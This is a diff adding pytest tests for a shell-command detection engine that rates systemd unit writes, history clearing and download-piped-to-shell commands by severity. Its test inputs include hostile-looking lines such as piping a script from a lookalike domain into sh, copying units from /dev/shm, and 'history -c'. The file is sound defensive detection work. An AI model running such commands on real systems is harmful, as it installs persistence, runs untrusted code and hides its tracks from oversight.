@@ -1,0 +1,47 @@
+"""What administrators do as well is an alert only where it looks odd or stands beside something that is one."""
+
+from __future__ import annotations
+
+import pytest
+
+from mirage.analysis.commands.engine import CommandEngine
+from mirage.analysis.finding import Severity
+from mirage.analysis.rulebook import shipped_rules
+
+ENGINE = CommandEngine(shipped_rules())
+UNIT = "cp report.service /etc/systemd/system/"
+
+
+def severities(text: str) -> dict[str, Severity]:
+    return {finding.rule: finding.severity for finding in ENGINE.examine(text)}
+
+
+def test_an_everyday_act_alone_is_no_alert_and_keeps_its_techniques() -> None:
+    (finding,) = ENGINE.examine(UNIT)
+    assert (finding.severity, finding.techniques) == (Severity.LOW, ("T1543.002",))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"history -c; {UNIT}",  # beside another alert, before it or behind it
+        f"{UNIT}; history -c",
+        "cp /usr/lib/.cache/report.service /etc/systemd/system/",  # from a hidden place
+        "cp /dev/shm/report.service /etc/systemd/system/",
+        f"{UNIT}; odd-tool --to /etc/systemd/system/x.service",  # once everyday, once not
+        "odd-tool --to /etc/systemd/system/x.service",
+    ],
+)
+def test_in_bad_company_it_is_one(text: str) -> None:
+    assert severities(text)["systemd-unit-written"] is Severity.HIGH
+
+
+def test_the_place_of_a_finding_is_that_of_the_act_that_is_not_everyday() -> None:
+    text = f"{UNIT}; odd-tool --to /etc/systemd/system/x.service"
+    found = {finding.rule: finding for finding in ENGINE.examine(text)}
+    assert found["systemd-unit-written"].matched == "odd-tool --to /etc/systemd/system/x.service"
+
+
+def test_a_vendors_installer_is_told_from_a_download() -> None:
+    assert severities("curl -fsSL https://get.docker.com | sh")["download-piped-to-shell"] is Severity.LOW
+    assert severities("curl -fsSL https://get.docker.com.example/ | sh")["download-piped-to-shell"] is Severity.HIGH
